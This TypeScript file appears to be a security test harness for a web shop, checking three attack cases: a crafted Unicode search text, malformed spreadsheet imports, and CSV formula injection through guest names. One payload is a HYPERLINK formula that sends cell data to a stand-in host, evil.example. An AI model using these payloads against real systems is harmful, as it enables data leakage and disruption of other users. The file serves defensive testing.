import { setTimeout as sleep } from "node:timers/promises";
import { sql } from "kysely";
import type { ImportRecord } from "#contract/spreadsheets/endpoints.ts";
import { TABLE_TYPES } from "#server/platform/tables/table-file.ts";
import { workbook } from "#server/testing/sheets/workbook.ts";
import { withDatabase } from "../faults/setup/with-database.ts";
import type { Attack } from "./attack.ts";
import { signInClerk } from "./setup/accounts.ts";
import { listSons, newPhone, order, take } from "./setup/buying.ts";
import type { Shops } from "./setup/shops.ts";
import { must, outcomeOf, tally, type Visitor } from "./setup/visitor.ts";

const ASK_MS = 200;

/** The letters become 18 each, and the sign at the end is cut in two. */
const HOSTILE_SEARCH = "ﷺﷺﷺﷺﷺaaaaaaaaa😀";
/** Searches are written every 10 seconds. */
const COUNTED_MS = 40_000;

export const searchCounts: Attack<Shops> = {
  finding: 13,
  title: "one search text discards the search counts of all visitors",
  run: async ({ open }) => {
    const others = "honestlamp";
    const opened = (q: string) => open.visitor().post("/api/v1/search/opened", { q });
    const search = (q: string) => open.visitor().get(`/en/SearchProducts/${encodeURIComponent(q)}`);
    const [hostile] = await Promise.all([
      opened(HOSTILE_SEARCH),
      opened(others),
      search(HOSTILE_SEARCH),
      search(others),
      opened(HOSTILE_SEARCH),
    ]);
    const count = () =>
      withDatabase(open.dataDir, async (db) => {
        const { rows } = await sql<{ searches: number; opened: number }>`
          select
            (select count(*)::integer from storefront.search where words = ${others}) as searches,
            (select count(*)::integer from storefront.opened_search where words = ${others}) as opened
        `.execute(db);
        return rows[0] ?? { searches: 0, opened: 0 };
      });
    const until = Date.now() + COUNTED_MS;
    let found = await count();
    while ((found.searches === 0 || found.opened === 0) && Date.now() < until) {
      await sleep(1_000);
      found = await count();
    }
    return {
      held: found.searches > 0 && found.opened > 0,
      fact: `the text gets ${outcomeOf(hostile)}; of another visitor ${found.searches} search and ${found.opened} opened result are counted`,
    };
  },
};

const cell = (place: string, text: string) =>
  `<c r="${place}" t="inlineStr"><is><t>${text}</t></is></c>`;
const row = (number: string, ...cells: string[]) => `<row r="${number}">${cells.join("")}</row>`;
const HEADINGS = row("1", cell("A1", "SKU"), cell("B1", "On hand"));
const BODY = [cell("A2", "NO-SUCH"), cell("B2", "1")] as const;
const WORKBOOKS: Record<string, string> = {
  "row abc": HEADINGS + row("abc", ...BODY),
  "row 1e99": HEADINGS + row("1e99", ...BODY),
  "row 2 twice": HEADINGS + row("2", ...BODY) + row("2", ...BODY),
};
const IMPORT_MS = 30_000;

export const craftedWorkbooks: Attack<Shops> = {
  finding: 13,
  title: "a workbook with wrong row numbers blocks the imports of others",
  run: async ({ open }) => {
    const [staff, other] = [
      await signInClerk(open, "catalogue"),
      await signInClerk(open, "catalogue"),
    ];
    const sent: number[] = [];
    for (const rows of Object.values(WORKBOOKS)) {
      const bytes = await workbook(`<worksheet><sheetData>${rows}</sheetData></worksheet>`);
      sent.push(await sendImport(staff, bytes, TABLE_TYPES.xlsx));
    }
    const honest = await sendImport(other, Buffer.from("SKU,On hand\nNO-SUCH,1"), TABLE_TYPES.csv);
    const until = Date.now() + IMPORT_MS;
    const read = async (id: number) =>
      must(await other.get(`/api/v1/admin/imports/${id}`)).json<ImportRecord>();
    while ((await read(honest)).state !== "checked" && Date.now() < until) await sleep(ASK_MS);
    const { state } = await read(honest);
    const crafted = await Promise.all(sent.map(read));
    return {
      held: state === "checked" && crafted.every((one) => one.state === "failed"),
      fact: `${Object.keys(WORKBOOKS).join(", ")}: ${tally(crafted.map((one) => one.state))}; the next file: ${state}`,
    };
  },
};

async function sendImport(staff: Visitor, bytes: Uint8Array, type: string): Promise<number> {
  const path = "/api/v1/admin/imports?kind=stock&name=stock";
  return must(await staff.send("POST", path, { file: { bytes, type } }), 201).json<ImportRecord>()
    .id;
}

const LINK = '=HYPERLINK("http://evil.example/"&A1)';
const NAMES = [
  LINK,
  `Ali;${LINK};x`,
  "Ali;'＝1+evil",
  "＝1+evil",
  "＋evil",
  'Ali;"@evil',
  "Ali\t=1+evil",
];
/** Where a cell begins, whichever sign a spreadsheet program splits lines at. */
const STARTS = /[;,\t\r\n]/;
const FORMULA = /^["\s]*[=+\-@＝＋－＠](?![\d.,]*"?$)/;

export const formulas: Attack<Shops> = {
  finding: 13,
  title: "a guest's name becomes a formula in the table of orders",
  run: async ({ open }) => {
    const [son] = await listSons(open.visitor());
    const answers: string[] = [];
    for (const name of NAMES) {
      const guest = open.visitor();
      await take(guest, [[son?.id ?? 0, 1]]);
      answers.push(outcomeOf(await order(guest, { phone: newPhone(), name })));
    }
    const staff = await signInClerk(open, "orders");
    const { text } = must(await staff.get("/api/v1/admin/order-table?format=csv"));
    const found = text.split(STARTS).filter((start) => FORMULA.test(start));
    const written = text.split("evil").length - 1;
    return {
      held: written > 0 && found.length === 0,
      fact: `${NAMES.length} names: ${tally(answers)}; ${written} in the table, ${found.length} formulas${found
        .slice(0, 2)
        .map((start) => `, ${start}`)
        .join("")}`,
    };
  },
};
